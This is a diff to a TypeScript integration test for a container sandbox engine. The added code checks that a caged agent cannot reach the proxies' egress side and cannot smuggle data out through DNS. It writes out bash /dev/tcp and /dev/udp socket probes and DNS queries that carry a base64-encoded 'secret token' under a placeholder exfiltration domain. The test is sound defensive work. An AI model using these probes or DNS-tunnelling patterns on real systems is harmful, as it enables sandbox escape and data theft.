@@ -2,6 +2,7 @@
 import assert from 'node:assert/strict';
 import { after, before, describe, it } from 'node:test';
 import type Docker from 'dockerode';
+import * as packet from 'dns-packet';
 import { EGRESS_NETWORK, names, type CageEngine, type CageInfo } from '../../src/engine';
 import { allowPolicy, esc, leftovers, makeEngine, makeWorkspace, NOSHELL_IMAGE, prepare, rmrf, startUpstream, TEST_LABEL, tmpDir, type Upstream } from './setup';
 
@@ -60,6 +61,30 @@ describe('cage isolation, shell-less images and failure cleanup', { timeout: 240
     for (const ip of [bAgentIp, bProxyIp, bProxyEgressIp]) {
       const r = await engine.exec(a.id, ['curl', '--noproxy', '*', '-sS', '-o', '/dev/null', '--connect-timeout', '2', `http://${ip}:3128/`]);
       assert.ok(r.exitCode === 7 || r.exitCode === 28, `direct ${ip} from A: exit ${r.exitCode} ${r.stderr}`);
+    }
+    // The proxies' egress addresses (A's own and B's): no route from a cage network to their DNS, 80, 443 or
+    // explicit port, TCP or UDP (the proxy listens on its cage address only, and the cage network is internal).
+    const aProxyEgressIp = (await docker.getContainer(a.proxyContainerId!).inspect()).NetworkSettings.Networks[EGRESS_NETWORK].IPAddress;
+    const dnsQuery = (name: string, type: 'A' | 'TXT' | 'AAAA' | 'MX') => packet.encode({ type: 'query', id: 0x4242, flags: packet.RECURSION_DESIRED, questions: [{ type, name, class: 'IN' }] });
+    const printf = (b: Buffer) => [...b].map((x) => '\\x' + x.toString(16).padStart(2, '0')).join('');
+    const egressProbe = await engine.exec(a.id, ['bash', '-c', [
+      `for ip in ${aProxyEgressIp} ${bProxyEgressIp}; do for p in 53 80 443 3128; do (timeout 3 bash -c "exec 3<>/dev/tcp/$ip/$p" 2>/dev/null && echo "tcp $ip:$p open") & done`,
+      `(exec 3<>/dev/udp/$ip/53 && printf '${printf(dnsQuery('egress.example', 'A'))}' >&3 && timeout 2 dd bs=512 count=1 status=none <&3 | od -An -tx1 | grep -q . && echo "udp $ip:53 answered") 2>/dev/null & done; wait; echo done`,
+    ].join('; ')]);
+    assert.equal(egressProbe.stdout.trim(), 'done', `the proxies' egress side from cage A: ${egressProbe.stdout}`);
+    // DNS sent straight to A's proxy (not through the engine's resolver) for names the agent made up, carrying
+    // data: the answer is the proxy's own address or nothing, never a record with data the agent chose.
+    const secretName = 'c2VjcmV0LXRva2VuLTEyMzQ1Ng.exfil-i19tp.example';
+    for (const [name, type] of [[secretName, 'A'], [secretName, 'TXT'], [secretName, 'AAAA'], [secretName, 'MX'], ['caged-proxy', 'A']] as const) {
+      const r = await engine.exec(a.id, ['bash', '-c', `exec 3<>/dev/udp/${aProxyIp}/53; printf '${printf(dnsQuery(name, type))}' >&3; timeout 3 dd bs=4096 count=1 status=none <&3 | od -An -v -tx1`]);
+      const bytes = Buffer.from(r.stdout.replace(/\s+/g, ''), 'hex');
+      assert.ok(bytes.length > 0, `${type} ${name}: no answer (${r.stderr})`);
+      const reply = packet.decode(bytes);
+      assert.equal(reply.id, 0x4242);
+      assert.deepEqual(reply.questions?.map((q) => [q.name, q.type]), [[name, type]], 'the question is echoed, as DNS requires');
+      const answers = (reply.answers ?? []).map((x) => [x.type, (x as { data?: unknown }).data]);
+      assert.deepEqual(answers, type === 'A' ? [['A', aProxyIp]] : [], `${type} ${name}: only the proxy's own address`);
+      assert.deepEqual([reply.authorities?.length ?? 0, reply.additionals?.length ?? 0], [0, 0], 'nothing else in the answer');
     }
     // ...and through A's proxy (IP literals are refused by policy).
     const viaProxy = await engine.exec(a.id, ['curl', '-sS', '-o', '/dev/null', '-w', '%{http_code}', '--max-time', '10', `http://${bProxyEgressIp}:3128/`]);
